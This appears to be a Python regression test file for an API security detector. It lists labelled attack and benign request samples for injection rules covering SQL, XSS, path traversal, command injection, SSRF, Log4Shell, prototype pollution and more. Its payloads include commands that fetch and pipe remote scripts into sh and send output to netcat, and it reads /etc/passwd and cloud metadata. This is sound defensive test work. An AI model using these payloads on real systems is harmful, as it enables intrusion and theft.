"""Regression cases for the injection family (APISEC-INJ-001..010)."""

from __future__ import annotations

from urllib.parse import quote

from otel_apisec.testing import make_exchange
from tests.cases import Case

BASE = "https://api.example.com/v1/items"


def _q(name: str, value: str) -> str:
    return f"{BASE}?{name}={quote(value, safe='')}"


CASES: list[Case] = [
    # APISEC-INJ-001 SQL injection
    Case(
        "APISEC-INJ-001",
        True,
        "tautology in a query parameter",
        make_exchange(_q("id", "1' OR '1'='1")),
        "request.query.id",
    ),
    Case(
        "APISEC-INJ-001",
        True,
        "time-based blind in a JSON value",
        make_exchange(BASE, "POST", json={"sort": "name,(SELECT SLEEP(5))"}),
        "request.body.$.sort",
    ),
    Case(
        "APISEC-INJ-001",
        True,
        "comment-split UNION SELECT double URL-encoded",
        make_exchange(_q("q", "1%20UN/**/ION%20SEL/**/ECT%201,2,3--")),
    ),
    Case(
        "APISEC-INJ-001",
        True,
        "comment truncation in a login form",
        make_exchange(
            BASE,
            "POST",
            body="user=admin'--&pass=x",
            content_type="application/x-www-form-urlencoded",
        ),
    ),
    Case(
        "APISEC-INJ-001", False, "surname with an apostrophe", make_exchange(_q("name", "O'Brien"))
    ),
    Case(
        "APISEC-INJ-001",
        False,
        "prose using select, union and drop",
        make_exchange(
            BASE,
            "POST",
            json={"review": "Please select the union option from the drop-down, or not."},
        ),
    ),
    # APISEC-INJ-002 XSS
    Case(
        "APISEC-INJ-002",
        True,
        "script tag in a query parameter",
        make_exchange(_q("q", "<script>alert(1)</script>")),
        "request.query.q",
    ),
    Case(
        "APISEC-INJ-002",
        True,
        "event handler on an svg, HTML-entity encoded",
        make_exchange(BASE, "POST", json={"bio": "&lt;svg onload=alert(document.domain)&gt;"}),
    ),
    Case(
        "APISEC-INJ-002",
        True,
        "javascript: URL in a Referer header",
        make_exchange(BASE, headers={"Referer": "javascript:alert(1)"}),
        "request.header.referer",
    ),
    Case(
        "APISEC-INJ-002",
        False,
        "math with angle brackets and a heart",
        make_exchange(_q("comment", "a < b > c, love it <3")),
    ),
    Case(
        "APISEC-INJ-002",
        False,
        "a real browser user agent",
        make_exchange(
            BASE,
            headers={
                "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
            },
        ),
    ),
    # APISEC-INJ-003 path traversal / LFI
    Case(
        "APISEC-INJ-003",
        True,
        "dot-dot-slash climb",
        make_exchange(_q("file", "../../../etc/passwd")),
        "request.query.file",
    ),
    Case(
        "APISEC-INJ-003",
        True,
        "double URL-encoded climb in JSON",
        make_exchange(BASE, "POST", json={"path": "%252e%252e%252f%252e%252e%252fetc%252fshadow"}),
    ),
    Case(
        "APISEC-INJ-003",
        True,
        "php stream wrapper",
        make_exchange(_q("page", "php://filter/convert.base64-encode/resource=index.php")),
    ),
    Case(
        "APISEC-INJ-003",
        False,
        "relative file name and ellipsis",
        make_exchange(_q("file", "reports/2024/summary...final.pdf")),
    ),
    # APISEC-INJ-004 command injection
    Case(
        "APISEC-INJ-004",
        True,
        "separator then id",
        make_exchange(_q("host", "127.0.0.1;id")),
        "request.query.host",
    ),
    Case(
        "APISEC-INJ-004",
        True,
        "command substitution in JSON",
        make_exchange(BASE, "POST", json={"name": "$(curl http://x.example/s.sh|sh)"}),
    ),
    Case(
        "APISEC-INJ-004",
        True,
        "Shellshock in User-Agent",
        make_exchange(BASE, headers={"User-Agent": "() { :;}; /bin/bash -c 'cat /etc/passwd'"}),
    ),
    Case(
        "APISEC-INJ-004",
        False,
        "ampersands and semicolons in prose",
        make_exchange(_q("comment", "Tom & Jerry; cat lovers & dog people | all welcome")),
    ),
    # APISEC-INJ-005 SSRF
    Case(
        "APISEC-INJ-005",
        True,
        "cloud metadata URL",
        make_exchange(BASE, "POST", json={"webhook": "http://169.254.169.254/latest/meta-data/"}),
        "request.body.$.webhook",
    ),
    Case(
        "APISEC-INJ-005",
        True,
        "decimal-encoded loopback",
        make_exchange(_q("image", "http://2130706433/admin")),
    ),
    Case(
        "APISEC-INJ-005",
        True,
        "IPv4-mapped IPv6 loopback",
        make_exchange(_q("feed", "http://[::ffff:127.0.0.1]:8080/")),
    ),
    Case(
        "APISEC-INJ-005",
        True,
        "octal loopback with userinfo trick",
        make_exchange(_q("url", "http://example.com@0177.0.0.1/")),
    ),
    Case(
        "APISEC-INJ-005",
        False,
        "public URL with a query string",
        make_exchange(_q("image", "https://cdn.example.net/a.png?w=100&h=10")),
    ),
    # APISEC-INJ-006 NoSQL
    Case(
        "APISEC-INJ-006",
        True,
        "operator object in a JSON login",
        make_exchange(BASE, "POST", json={"user": "admin", "password": {"$ne": None}}),
    ),
    Case(
        "APISEC-INJ-006",
        True,
        "bracket operator in a query key",
        make_exchange(f"{BASE}?user[$ne]=x"),
        "request.query.user[$ne]",
    ),
    Case(
        "APISEC-INJ-006",
        True,
        "$where JavaScript",
        make_exchange(_q("q", "'; return this.password.match(/.*/)//")),
    ),
    Case(
        "APISEC-INJ-006",
        False,
        "price with a dollar sign",
        make_exchange(BASE, "POST", json={"note": "costs $ne arly 5, or $10 in total"}),
    ),
    # APISEC-INJ-007 SSTI
    Case("APISEC-INJ-007", True, "Jinja arithmetic probe", make_exchange(_q("name", "{{7*7}}"))),
    Case(
        "APISEC-INJ-007",
        True,
        "dunder walk",
        make_exchange(BASE, "POST", json={"t": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    ),
    Case("APISEC-INJ-007", True, "ERB expression", make_exchange(_q("msg", "<%= 7 * 7 %>"))),
    Case(
        "APISEC-INJ-007",
        False,
        "mustache placeholder",
        make_exchange(BASE, "POST", json={"template": "Hello {{name}}, welcome!"}),
    ),
    # APISEC-INJ-008 JNDI
    Case(
        "APISEC-INJ-008",
        True,
        "plain Log4Shell in User-Agent",
        make_exchange(BASE, headers={"User-Agent": "${jndi:ldap://x.example/a}"}),
        "request.header.user-agent",
    ),
    Case(
        "APISEC-INJ-008",
        True,
        "nested lookup obfuscation",
        make_exchange(_q("q", "${${lower:j}${::-n}d${upper:i}:${lower:l}dap://x.example/a}")),
    ),
    Case(
        "APISEC-INJ-008",
        False,
        "shell-like variable reference",
        make_exchange(BASE, "POST", json={"path": "${HOME}/data"}),
    ),
    # APISEC-INJ-009 LDAP
    Case(
        "APISEC-INJ-009", True, "filter break-out", make_exchange(_q("user", "*)(uid=*))(|(uid=*"))
    ),
    Case(
        "APISEC-INJ-009",
        True,
        "objectclass wildcard",
        make_exchange(BASE, "POST", json={"cn": "admin)(|(objectclass=*)"}),
    ),
    Case(
        "APISEC-INJ-009",
        False,
        "parenthesised prose",
        make_exchange(_q("comment", "great (really) product (5 stars)")),
    ),
    # APISEC-INJ-010 open redirect
    Case(
        "APISEC-INJ-010",
        True,
        "scheme-relative next",
        make_exchange(_q("next", "//evil.example")),
        "request.query.next",
    ),
    Case(
        "APISEC-INJ-010", True, "backslash trick", make_exchange(_q("return_to", "/\\evil.example"))
    ),
    Case(
        "APISEC-INJ-010",
        True,
        "javascript URL in redirect",
        make_exchange(_q("redirect", "javascript:alert(1)")),
    ),
    Case(
        "APISEC-INJ-010",
        False,
        "relative next path",
        make_exchange(_q("next", "/account/settings?tab=2")),
    ),
    Case(
        "APISEC-INJ-010",
        False,
        "pagination link in a JSON body",
        make_exchange(BASE, "POST", json={"next": "https://api.example.com/v1/items?page=2"}),
    ),
    Case(
        "APISEC-INJ-010",
        False,
        "absolute return_to on the request's own host",
        make_exchange(_q("return_to", "https://api.example.com/account")),
    ),
    Case(
        "APISEC-INJ-010",
        True,
        "same host as userinfo in front of another host",
        make_exchange(_q("next", "https://api.example.com@evil.example/")),
        "request.query.next",
    ),
    Case(
        "APISEC-INJ-010",
        True,
        "script URL split by a newline in a JSON redirect target",
        make_exchange(BASE, "POST", json={"redirect_to": "java\nscript:alert(1)"}),
        "request.body.$.redirect_to",
    ),
    Case(
        "APISEC-INJ-010",
        False,
        "email address in a next parameter",
        make_exchange(_q("next", "jane.doe@example.org")),
    ),
    # recall by attack class
    Case(
        "APISEC-INJ-004",
        True,
        "separator then pwd",
        make_exchange(_q("host", "&& pwd")),
        "request.query.host",
    ),
    Case(
        "APISEC-INJ-004",
        True,
        "PHP complex-syntax call",
        make_exchange(BASE, "POST", json={"name": "{${phpinfo()}}"}),
        "request.body.$.name",
    ),
    Case(
        "APISEC-INJ-004",
        False,
        "the word sleep with a number in prose",
        make_exchange(_q("note", "I need 8 hours of sleep 5 nights a week")),
    ),
    Case(
        "APISEC-INJ-003",
        True,
        "absolute path into /proc",
        make_exchange(_q("file", "/proc/loadavg")),
        "request.query.file",
    ),
    Case(
        "APISEC-INJ-003",
        True,
        "base64-wrapped /etc/passwd",
        make_exchange(_q("page", "L2V0Yy9wYXNzd2Q=")),
        "request.query.page",
    ),
    Case(
        "APISEC-INJ-003",
        False,
        "base64 value that decodes to no path",
        make_exchange(_q("token", "L2xvbmRvbi1icmlkZ2UtaXMtZmFsbGluZy1kb3du")),
    ),
    Case(
        "APISEC-INJ-009",
        True,
        "wildcard closing the filter before a NUL",
        make_exchange(_q("user", "*))%00")),
        "request.query.user",
    ),
    Case(
        "APISEC-INJ-009",
        False,
        "a lone wildcard search",
        make_exchange(_q("q", "*")),
    ),
]

CASES += [
    Case(
        "APISEC-INJ-001",
        False,
        "browser Accept header with */* and q-values",
        make_exchange("https://api.example.com/", headers={
            "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "Accept-Language": "en-US,en;q=0.5", "Sec-Fetch-Mode": "navigate"}),
    ),
    Case(
        "APISEC-INJ-001",
        True,
        "SQL injection in a custom header is still scanned",
        make_exchange("https://api.example.com/", headers={"X-Tenant": "1' OR '1'='1' --"}),
        "request.header.x-tenant",
    ),
]

# CRS paranoia-level-1 classes: restricted files, code injection (Java, Node.js, PHP), prototype
# pollution, Windows cmd and shell evasions (command injection), SQL keyword forms (SQLi).
CASES += [
    # APISEC-INJ-011 restricted files, in the path and in parameters
    Case("APISEC-INJ-011", True, ".env in the path", make_exchange("https://api.example.com/.env"), "request.path"),
    Case("APISEC-INJ-011", True, ".git directory in the path",
         make_exchange("https://api.example.com/.git/config"), "request.path"),
    Case("APISEC-INJ-011", True, "AWS credentials in a file parameter",
         make_exchange(_q("file", "../../.aws/credentials")), "request.query.file"),
    Case("APISEC-INJ-011", True, "database dump in the path", make_exchange("https://api.example.com/backup.sql")),
    Case("APISEC-INJ-011", True, "site archive in the path", make_exchange("https://api.example.com/www.tar.gz")),
    Case("APISEC-INJ-011", True, "editor backup of a PHP file", make_exchange(_q("page", "index.php~"))),
    Case("APISEC-INJ-011", True, "wp-config.php in a JSON value",
         make_exchange(BASE, "POST", json={"template": "/var/www/html/wp-config.php"}), "request.body.$.template"),
    Case("APISEC-INJ-011", True, "IIS web.config in the path", make_exchange("https://api.example.com/web.config")),
    Case("APISEC-INJ-011", False, "prose telling a developer to copy .env",
         make_exchange(BASE, "POST", json={"comment": "Copy .env.example to .env and set DB_HOST"})),
    Case("APISEC-INJ-011", False, "well-known path and a gzipped sitemap",
         make_exchange("https://api.example.com/.well-known/sitemap.xml.gz")),
    Case("APISEC-INJ-011", False, "an uploaded archive's file name", make_exchange(_q("filename", "Backup.zip"))),
    # APISEC-INJ-012 code injection
    Case("APISEC-INJ-012", True, "java.lang.Runtime exec",
         make_exchange(_q("q", 'java.lang.Runtime.getRuntime().exec("id")')), "request.query.q"),
    Case("APISEC-INJ-012", True, "Spring4Shell class.module in a parameter name",
         make_exchange(f"{BASE}?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
         "request.query.class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
    Case("APISEC-INJ-012", True, "OGNL member access (Struts)",
         make_exchange(BASE, headers={"Content-Type": "%{(#_memberAccess['allowStaticMethodAccess']=true)}"})),
    Case("APISEC-INJ-012", True, "SpEL type reference", make_exchange(_q("sort", "T(java.lang.Runtime).getRuntime()"))),
    Case("APISEC-INJ-012", True, "deserialization gadget class name in JSON",
         make_exchange(BASE, "POST", json={"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "x"})),
    Case("APISEC-INJ-012", True, "node-serialize function",
         make_exchange(BASE, "POST", json={"profile": "_$$ND_FUNC$$_function(){return 1}()"})),
    Case("APISEC-INJ-012", True, "PHP eval of a request variable", make_exchange(_q("x", "eval($_POST['c'])"))),
    Case("APISEC-INJ-012", True, "PHP serialized object", make_exchange(_q("data", 'O:8:"stdClass":1:{s:1:"a";i:1;}'))),
    Case("APISEC-INJ-012", False, "a Java stack trace in an error report",
         make_exchange(BASE, "POST", json={"trace": "java.lang.NullPointerException\n"
                                           "  at java.lang.Thread.run(Thread.java:748)\n"
                                           "  at sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)"})),
    Case("APISEC-INJ-012", False, "prose naming system and assert",
         make_exchange(BASE, "POST", json={"comment": "The system (as described) works; assert (x > 0) in tests"})),
    # APISEC-INJ-013 prototype pollution, in keys and in values
    Case("APISEC-INJ-013", True, "__proto__ in a query key", make_exchange(f"{BASE}?__proto__[isAdmin]=true"),
         "request.query.__proto__[isAdmin]"),
    Case("APISEC-INJ-013", True, "__proto__ as a JSON key",
         make_exchange(BASE, "POST", body='{"__proto__": {"isAdmin": true}}', content_type="application/json")),
    Case("APISEC-INJ-013", True, "constructor.prototype as nested JSON keys",
         make_exchange(BASE, "POST", json={"constructor": {"prototype": {"isAdmin": True}}})),
    Case("APISEC-INJ-013", True, "constructor[prototype] in a query key",
         make_exchange(f"{BASE}?a[constructor][prototype][x]=1")),
    Case("APISEC-INJ-013", True, "property path through __proto__ in a value",
         make_exchange(BASE, "POST", json={"path": "settings.__proto__.polluted"})),
    Case("APISEC-INJ-013", False, "prose naming __proto__",
         make_exchange(BASE, "POST", json={"comment": "The __proto__ property is deprecated (MDN)"})),
    Case("APISEC-INJ-013", False, "a prototype key not under constructor",
         make_exchange(BASE, "POST", json={"design": {"prototype": "v2"}})),
    # APISEC-INJ-004 Windows cmd and shell evasions
    Case("APISEC-INJ-004", True, "FOR /F over command output",
         make_exchange(_q("q", "FOR /F \"tokens=*\" %i IN ('whoami') DO echo %i"))),
    Case("APISEC-INJ-004", True, "%COMSPEC% expansion", make_exchange(_q("q", "x & %COMSPEC% /c dir"))),
    Case("APISEC-INJ-004", True, "cmd substring expansion", make_exchange(_q("q", "%PATH:~0,1%"))),
    Case("APISEC-INJ-004", True, "cmd caret obfuscation", make_exchange(_q("q", "w^h^o^a^m^i"))),
    Case("APISEC-INJ-004", True, "brace expansion", make_exchange(_q("q", ";{cat,/etc/passwd}"))),
    Case("APISEC-INJ-004", True, "empty quotes inside a command", make_exchange(_q("q", "c''at /etc/passwd"))),
    Case("APISEC-INJ-004", True, "backslash inside a command", make_exchange(_q("q", "c\\at /etc/passwd"))),
    Case("APISEC-INJ-004", True, "$IFS as a space", make_exchange(_q("q", ";cat$IFS/etc/passwd"))),
    Case("APISEC-INJ-004", True, "interpreter one-liner", make_exchange(_q("q", "perl -e 'print 1'"))),
    Case("APISEC-INJ-004", False, "a Windows path with an environment variable",
         make_exchange(_q("path", "%APPDATA%\\MyApp\\config.ini"))),
    Case("APISEC-INJ-004", False, "options in braces and $IFS in prose",
         make_exchange(BASE, "POST", json={"note": "{red,green,blue} are the options; don't use $IFS in scripts"})),
    Case("APISEC-INJ-004", False, "math with carets", make_exchange(_q("q", "x^2 + y^2 = z^2"))),
    # APISEC-INJ-001 SQL keyword forms libinjection does not tokenise
    Case("APISEC-INJ-001", True, "sub-select after a concatenation", make_exchange(_q("id", "1 || (select 1)"))),
    Case("APISEC-INJ-001", True, "PostgreSQL COPY TO PROGRAM", make_exchange(_q("q", "copy (select '') to program 'id'"))),
    Case("APISEC-INJ-001", True, "T-SQL dynamic SQL",
         make_exchange(_q("q", "declare @q nvarchar(200) select @q = 0x77 exec(@q)"))),
    Case("APISEC-INJ-001", True, "MSSQL shutdown", make_exchange(_q("q", "shutdown with nowait"))),
    Case("APISEC-INJ-001", False, "prose with a parenthesised select",
         make_exchange(BASE, "POST", json={"comment": "Pick one (select from the list) and press go"})),
    # hard benign text: classes that only look like injection, and the attacks next to them
    Case("APISEC-INJ-003", False, "a Windows absolute path into Program Files",
         make_exchange(_q("path", "D:\\Program Files\\Contoso\\readme.md"))),
    Case("APISEC-INJ-003", False, "a Windows path under the Windows folder",
         make_exchange(_q("path", "C:\\WINDOWS\\Media\\chimes.wav"))),
    Case("APISEC-INJ-003", False, "a UNC path", make_exchange(_q("path", "\\\\nas01\\public\\Windows\\driver.inf"))),
    Case("APISEC-INJ-003", True, "the Program Files folder itself", make_exchange(_q("path", "C:\\Program Files\\"))),
    Case("APISEC-INJ-003", True, "win.ini under the Windows folder", make_exchange(_q("path", "C:\\Windows\\win.ini"))),
    Case("APISEC-INJ-004", False, "a read-only pipeline into text filters",
         make_exchange(BASE, "POST", json={"note": "find . -name '*.py' | sort | head -n 5"})),
    Case("APISEC-INJ-004", False, "echo of a quoted greeting", make_exchange(_q("q", "echo 'Good morning, $NAME'"))),
    Case("APISEC-INJ-004", True, "a pipeline into a shell", make_exchange(_q("q", "curl -s http://x.example/i | sh"))),
    Case("APISEC-INJ-004", True, "a pipeline into netcat", make_exchange(_q("q", "ls -la | nc 10.0.0.1 4444"))),
    Case("APISEC-INJ-004", True, "a pipeline reading a system file",
         make_exchange(_q("q", "cat /etc/passwd | grep root"))),
    Case("APISEC-INJ-004", True, "a pipeline with a substitution", make_exchange(_q("q", "ls -l | grep $(id)"))),
    Case("APISEC-INJ-004", True, "echo into a file", make_exchange(_q("q", "echo 'x' > /tmp/a.sh"))),
    Case("APISEC-INJ-001", False, "an UPDATE statement with a trailing comment",
         make_exchange(BASE, "POST", json={"note": "UPDATE users SET locale = 'fr' -- default for EU"})),
    Case("APISEC-INJ-001", False, "a line of code ending in a quote, parentheses and a semicolon",
         make_exchange(BASE, "POST", json={"note": 'log.info("saved {}", repo.save(item, "draft"));'})),
    Case("APISEC-INJ-001", True, "a quote closed, then a comment", make_exchange(_q("user", "admin' -- "))),
    Case("APISEC-INJ-001", True, "a quote and parenthesis closed, then a semicolon", make_exchange(_q("user", "admin');"))),
    Case("APISEC-INJ-001", True, "a stacked UPDATE", make_exchange(_q("id", "1; UPDATE users SET role = 'admin'"))),
    Case("APISEC-INJ-001", True, "PostgreSQL COPY from a server file", make_exchange(_q("q", "copy t from '/etc/passwd'; "))),
    Case("APISEC-INJ-002", False, "a plain https link in a comment",
         make_exchange(BASE, "POST", json={"comment": 'see <a href="https://docs.example.org/faq#refunds">the FAQ</a>'})),
    Case("APISEC-INJ-002", True, "a closing anchor tag breaking out", make_exchange(_q("q", "x</a><b>hi"))),
    Case("APISEC-INJ-002", True, "a link to an obfuscated numeric host",
         make_exchange(_q("q", '<a href="http://0x7f.0x0.0x0.0x1/">go</a>'))),
    Case("APISEC-INJ-002", True, "a link with an event handler",
         make_exchange(_q("q", '<a href="https://a.example.com" onmouseover="alert(1)">x</a>'))),
]
